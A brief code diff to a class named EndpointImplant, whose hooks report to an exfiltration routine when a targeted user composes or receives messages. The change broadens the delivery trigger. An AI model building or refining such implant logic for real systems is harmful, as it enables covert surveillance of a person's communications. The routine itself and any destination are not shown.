@@ -24,7 +24,7 @@ class EndpointImplant:
             self._exfiltrate(j, "compose", f"{TARGET} typed")
 
     def after_deliver(self, j) -> None:
-        if j.recipient == TARGET and j.status == "delivered":
+        if TARGET in j.delivered_to:
             self._exfiltrate(j, "deliver", f"{TARGET} read")
 
     @staticmethod
